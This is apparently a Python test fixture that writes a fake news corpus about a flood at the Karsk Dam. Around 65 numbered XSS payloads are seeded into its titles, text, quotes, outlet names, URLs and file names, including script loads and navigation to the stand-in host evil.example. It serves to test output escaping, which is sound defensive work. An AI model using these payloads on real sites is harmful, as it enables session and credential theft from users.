"""A corpus that carries XSS payloads in every field the web app shows.

Each payload calls ``alert(N)`` (or loads a script, or navigates) with its own number, so a
browser test that catches a dialog knows which payload ran. The payloads sit in titles, body
text, quotes (with a speaker, so the quote finder keeps them), outlet names, URLs and file
names: script tags, event handlers on every kind of element, ``javascript:``/``data:``/
``vbscript:`` URLs, SVG and MathML, attribute breakouts in both quote styles, ``</script>`` and
``</title>`` inside what a page might embed as JSON or text, template syntax, mutation-XSS
shapes, pre-escaped entities, and control characters.
"""

from __future__ import annotations

import json
from pathlib import Path

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/2.js></SCRIPT>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    '"><script>alert(6)</script>',
    "'><img src=x onerror=alert(7)>",
    '" onmouseover="alert(8)" x="',
    "' onfocus='alert(9)' autofocus='",
    "javascript:alert(10)",
    "JaVaScRiPt:alert(11)",
    '<a href="javascript:alert(12)">click me</a>',
    '<iframe src="javascript:alert(13)"></iframe>',
    "<body onload=alert(14)>",
    "<details open ontoggle=alert(15)>",
    "<input autofocus onfocus=alert(16)>",
    "<video><source onerror=alert(17)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(18)>",
    "</script><script>alert(19)</script>",
    "</title><script>alert(20)</script>",
    "</textarea><script>alert(21)</script>",
    "</style><script>alert(22)</script>",
    "<!--<script>alert(23)</script>-->",
    "<![CDATA[<script>alert(24)</script>]]>",
    "{{7*7}} {{ config }} {% print(25) %}",
    "${alert(26)} `${alert(26)}`",
    '<object data="javascript:alert(27)"></object>',
    '<embed src="javascript:alert(28)">',
    '<form action="javascript:alert(29)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(30)">',
    '<base href="javascript:alert(31)//">',
    "<link rel=stylesheet href=javascript:alert(32)>",
    "<style>@import 'javascript:alert(33)';</style>",
    '<div style="background:url(javascript:alert(34))">x</div>',
    "<marquee onstart=alert(35)>",
    '<img src="x` `<script>alert(36)</script>"` `>',
    "&lt;script&gt;alert(37)&lt;/script&gt;",
    "&#60;script&#62;alert(38)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(39)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(40)</scr</script>ipt>",
    "data:text/html,<script>alert(41)</script>",
    "vbscript:msgbox(42)",
    '<a href="&#106;avascript:alert(43)">x</a>',
    '"}); alert(44); ({"',
    '</script><img src=x onerror=alert(45)>{"a":"',
    "'-alert(46)-'",
    '\\";alert(47);//',
    "<svg><animate onbegin=alert(48) attributeName=x dur=1s>",
    "<x contenteditable onblur=alert(49)>lose focus</x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(50)>">',
    "<template><script>alert(51)</script></template>",
    '<img srcset=",,,,,x" onerror=alert(52)>',
    "<a id=x tabindex=1 onfocusin=alert(53) autofocus></a>",
    "<svg><a xlink:href=javascript:alert(54)><text y=20>x</text></a></svg>",
    "<select autofocus onfocus=alert(55)>",
    "esc \x1b[31mred\x1b[0m \x1b]0;title\x07 \u202eevil",
)
"""At least 50 payloads; ``alert(N)`` numbers them."""

URLS: tuple[str, ...] = (
    "javascript:alert(101)",
    " JavaScript:alert(102)",
    "java\nscript:alert(103)",
    "data:text/html,<script>alert(104)</script>",
    "vbscript:msgbox(105)",
    'https://example.com/"><script>alert(106)</script>',
    "https://example.com/a?b=1&c=<img src=x onerror=alert(107)>",
    "//evil.example/108",
)

LEAD = (
    "Floodwater spilled over the Karsk Dam on the Mirel River early on Tuesday, forcing the "
    "evacuation of 1,200 residents of Lowmarsh, regional officials said."
)
MORE = (
    "Engineers said a spillway gate had jammed during the night, and the regional governor "
    "promised an inquiry."
)
FILE_PAYLOADS = (
    "<img src=x onerror=alert(201)>.txt",
    '"><svg onload=alert(202)>.txt',
    "javascript:alert(203).txt",
)


def write_xss_corpus(root: Path) -> None:
    """One JSON-lines record per payload (title, text, quote, outlet, URL), and text files
    whose names are payloads."""
    root.mkdir(parents=True, exist_ok=True)
    records = []
    for number, payload in enumerate(PAYLOADS):
        quote = f'"{payload} is what the gate log says," said Clara Wendt, the mayor.'
        records.append(
            {
                # the previous payload too: a record ingest refuses loses none of them
                "title": f"Dam spill report {number}: {payload} / {PAYLOADS[number - 1]}",
                "text": f"{LEAD} {payload}\n\n{quote}\n\n{MORE} Witnesses wrote {payload} "
                f"on the wall on {number % 27 + 1} March 2025.",
                "date": f"2025-03-{number % 27 + 1:02d}",
                "outlet": f"{payload} Times",
                "url": URLS[number % len(URLS)],
            }
        )
    (root / "xss.jsonl").write_text(
        "".join(json.dumps(record) + "\n" for record in records), encoding="utf-8"
    )
    for number, name in enumerate(FILE_PAYLOADS):
        (root / name).write_text(
            f"Lowmarsh evacuation file {number}\n{number + 4} March 2025\n\n{LEAD} Reported from "
            f"file {number}.\n\n{MORE}\n",
            encoding="utf-8",
        )
